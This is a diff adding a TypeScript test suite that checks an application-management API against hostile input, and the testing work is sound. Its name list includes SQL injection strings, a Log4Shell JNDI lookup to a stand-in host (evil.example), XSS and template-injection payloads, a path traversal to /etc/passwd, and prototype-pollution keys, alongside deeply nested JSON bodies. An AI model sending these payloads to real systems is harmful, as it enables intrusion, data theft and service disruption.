@@ -1,0 +1,141 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { operationPath } from '../../src/management/http/operation-path.ts'
+import { withApi } from './graph/applications/sample-api.ts'
+
+/** What people and programs put where a name is expected: BI10. */
+const names = [
+  "Robert'); DROP TABLE application;--",
+  "' OR '1'='1",
+  '"; SELECT pg_sleep(10); --',
+  '\u0024{jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '../../../../etc/passwd',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  'undefined',
+  'null',
+  'NaN',
+  '1e400',
+  '0x0',
+  '-0',
+  'Ω≈ç√∫˜µ≤≥÷',
+  '田中さんにあげて下さい',
+  'Å and Å, NFC and NFD',
+  '👩‍👩‍👧‍👧🏳️‍🌈',
+  'الكل في المجمو عة',
+  '‮right to left',
+  'ﷺ',
+  '​zero​width',
+  '\u{10ffff}',
+  'T̫̺̳o̬̜ ì̬͎̲̟n̖͖̥͓v̖̻͍o̫̪k̗e',
+  "%27%20or%20'1'='1",
+  '$filter=1',
+  "x'/any(y:y eq 'z",
+  'a'.repeat(256),
+] as const
+
+describe('a name as strange as can be', () => {
+  it('is kept and found byte for byte', async () => {
+    const { admin, store } = await withApi()
+    for (const displayName of names) {
+      const made = await admin.post('/applications', { displayName })
+      assert.equal(made.status, 201, displayName)
+      assert.equal((await store.read()).application(made.body.id)?.displayName, displayName)
+      const filter = `displayName eq '${displayName.replaceAll("'", "''")}'`
+      const found = await admin.get(`/applications?$filter=${encodeURIComponent(filter)}`)
+      assert.deepEqual(
+        found.body.value.map((one) => one.displayName),
+        [displayName],
+      )
+    }
+  })
+
+  const slots: Readonly<Record<string, (text: string) => readonly [string, string, object?]>> = {
+    'an object id': (text) => ['get', `/applications/${encodeURIComponent(text)}`],
+    'an application id': (text) => ['get', `/applications(appId='${encodeURIComponent(text)}')`],
+    'an assignment id': (text) => [
+      'delete',
+      `/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')/appRoleAssignedTo/${encodeURIComponent(text)}`,
+    ],
+    'a filter': (text) => ['get', `/applications?$filter=${encodeURIComponent(text)}`],
+    'a literal': (text) => ['get', `/applications?$filter=appId eq '${encodeURIComponent(text)}'`],
+    'a selection': (text) => ['get', `/applications?$select=${encodeURIComponent(text)}`],
+    'a page token': (text) => ['get', `/applications?$skiptoken=${encodeURIComponent(text)}`],
+    'a page size': (text) => ['get', `/applications?$top=${encodeURIComponent(text)}`],
+    'an option': (text) => ['get', `/applications?${encodeURIComponent(text)}=1`],
+    'a property': (text) => ['post', '/applications', JSON.parse(`{${JSON.stringify(text)}:1}`)],
+    'an application to stand for': (text) => ['post', '/servicePrincipals', { appId: text }],
+    'a role id': (text) => [
+      'post',
+      '/applications',
+      { displayName: 'x', appRoles: [{ id: text }] },
+    ],
+    'a URI': (text) => ['post', '/applications', { displayName: 'x', identifierUris: [text] }],
+  }
+  for (const [slot, requestOf] of Object.entries(slots))
+    it(`is answered with less than 500 as ${slot}, and finds nothing of others`, async () => {
+      const { admin } = await withApi()
+      for (const text of [...names, '\0', '%', '%00', '%C0%AF', '\ud800'.toWellFormed()]) {
+        const [method, path, body] = requestOf(text)
+        const { status, body: answer } = await admin[method as 'get'](path, body)
+        assert.ok(status < 500, `${status} for ${text}`)
+        if (status === 200) assert.deepEqual(answer.value, [], text)
+      }
+    })
+})
+
+describe('a body as strange as can be', () => {
+  /** Nimbus's CVE-2025-53864: nesting without end. */
+  for (const [name, body] of [
+    ['arrays', '['.repeat(100_000) + ']'.repeat(100_000)],
+    ['objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
+    ['arrays in a known property', `{"web":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
+    ['objects in a known property', `{"web":${'{"web":'.repeat(100_000)}1${'}'.repeat(100_000)}}`],
+  ])
+    it(`is refused when it is 100,000 ${name} deep`, async () => {
+      const { admin, path } = await withApi()
+      assert.equal((await admin.patch(path, body)).status, 400)
+    })
+
+  it('does not reach the prototype of anything', async () => {
+    const { admin, path } = await withApi()
+    const { status } = await admin.patch(path, '{"__proto__":{"isFallbackPublicClient":true}}')
+    assert.equal(status, 400)
+    assert.equal(({} as Record<string, unknown>).isFallbackPublicClient, undefined)
+  })
+})
+
+describe('the path of an operation', () => {
+  const rows = [
+    ["/applications(appId='a')/addPassword", '/applications/appId%3Da/addPassword'],
+    ['/applications(appId=%27a%27)', '/applications/appId%3Da'],
+    ['/applications%28appId=%27a%27%29', '/applications/appId%3Da'],
+    ["/applications('a')", '/applications/a'],
+    ["/applications(appId='a/b')", "/applications(appId='a/b')"],
+    ["/applications(name='a')", "/applications(name='a')"],
+    ["/applications(appId='%2F..%2F')", '/applications/appId%3D%2F..%2F'],
+    ['/applications/x', '/applications/x'],
+  ] as const
+  for (const [given, expected] of rows)
+    it(`${given} is ${expected}`, () => assert.equal(operationPath(given), expected))
+
+  it('is looked up as it is written: nothing is collapsed, completed or decoded twice', async () => {
+    const { admin, api } = await withApi()
+    for (const path of [
+      `//applications/${api.id}`,
+      `/applications//${api.id}`,
+      `/applications/${api.id}/`,
+      `/Applications/${api.id}`,
+      `/applications/%2561`,
+      `/applications%2F${api.id}`,
+      `/applications;/${api.id}`,
+    ]) {
+      const { status } = await admin.get(path)
+      assert.ok(status === 400 || status === 404, `${status} for ${path}`)
+    }
+  })
+})
